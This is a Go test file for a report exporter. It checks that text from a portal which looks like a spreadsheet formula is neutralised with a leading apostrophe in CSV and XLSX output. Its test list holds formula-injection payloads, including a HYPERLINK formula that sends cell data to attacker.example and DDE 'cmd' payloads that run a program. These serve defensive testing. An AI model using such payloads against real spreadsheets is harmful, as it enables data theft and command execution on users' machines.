package report

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"cddh-sync/connectors"
	"cddh-sync/sync/store"
)

// hostile are cells portal text may start with that a spreadsheet would run.
var hostile = []string{
	`=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")`,
	`=cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// TestFormulaInjectionNeutralised: portal text that looks like a formula reaches
// CSV and XLSX with a leading apostrophe, in every text column; numbers stay
// numbers, negative ones included (issue 18 §1).
func TestFormulaInjectionNeutralised(t *testing.T) {
	p, _ := ParsePeriod("2026-Q1")
	r := Build(p, sample(), classify, time.Date(2026, 3, 20, 9, 0, 0, 0, connectors.Zone))
	for i, h := range hostile {
		r.Overdue = append(r.Overdue, OverdueRow{TaskKey: "k", Document: h, Content: h, UnitName: h, UnitCode: "000.00.12.H20",
			StatusText: "Đang thực hiện quá hạn", Deadline: time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC), WorkdaysOverdue: -(i + 1)})
		r.Unlinked = append(r.Unlinked, store.UnlinkedReport{Document: h, SenderName: h, Summary: h, Note: h, Method: "unmatched"})
	}
	var cbuf, xbuf bytes.Buffer
	if err := WriteCSV(&cbuf, r, DefaultLabels); err != nil {
		t.Fatal(err)
	}
	if err := WriteXLSX(&xbuf, r, DefaultLabels); err != nil {
		t.Fatal(err)
	}
	rd := csv.NewReader(bytes.NewReader(cbuf.Bytes()[3:]))
	rd.FieldsPerRecord = -1
	recs, err := rd.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	check := func(where string, cells []string) (found int) {
		for _, c := range cells {
			if c == "" {
				continue
			}
			switch c[0] {
			case '=', '+', '@', '\t', '\r':
				t.Errorf("%s: a cell a spreadsheet would run: %q", where, c)
			case '-':
				if _, err := strconvAtoi(c); err != nil {
					t.Errorf("%s: a text cell starting with '-': %q", where, c)
				}
			}
			for _, h := range hostile {
				if c == "'"+h {
					found++
				}
			}
		}
		return found
	}
	n := 0
	for _, rec := range recs {
		n += check("csv", rec)
	}
	if want := len(hostile) * 7; n != want { // 3 overdue columns + 4 unlinked columns
		t.Errorf("csv: %d neutralised cells, want %d", n, want)
	}
	x, err := excelize.OpenReader(&xbuf)
	if err != nil {
		t.Fatal(err)
	}
	n = 0
	for _, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			n += check("xlsx "+sheet, row)
		}
		// No cell of any sheet is a formula.
		for ri, row := range rows {
			for ci := range row {
				cell, _ := excelize.CoordinatesToCellName(ci+1, ri+1)
				if f, _ := x.GetCellFormula(sheet, cell); f != "" {
					t.Errorf("xlsx %s!%s is a formula: %q", sheet, cell, f)
				}
			}
		}
	}
	if want := len(hostile) * 7; n != want {
		t.Errorf("xlsx: %d neutralised cells, want %d", n, want)
	}
	// Negative numbers in a numeric column stay numbers in both formats.
	rows, _ := x.GetRows(DefaultLabels.SheetOverdue)
	var negatives int
	for _, row := range rows[1:] {
		if strings.HasPrefix(row[len(row)-1], "-") {
			negatives++
			cell, _ := excelize.CoordinatesToCellName(len(row), 2)
			if typ, _ := x.GetCellType(DefaultLabels.SheetOverdue, cell); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
				t.Errorf("a negative count became text: %v", typ)
			}
		}
	}
	if negatives != len(hostile) {
		t.Errorf("xlsx: %d negative counts, want %d", negatives, len(hostile))
	}
	if !strings.Contains(cbuf.String(), ",-3\r\n") && !strings.Contains(cbuf.String(), ",-3\n") {
		t.Error("csv: the negative count -3 is not written as a bare number")
	}
}

func strconvAtoi(s string) (int, error) {
	var n int
	_, err := fmt.Sscan(s, &n)
	return n, err
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{"": "", "Sở Tài chính": "Sở Tài chính", "=1": "'=1", "-": "'-", "'=1": "'=1", " =1": " =1"} {
		if got := Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}
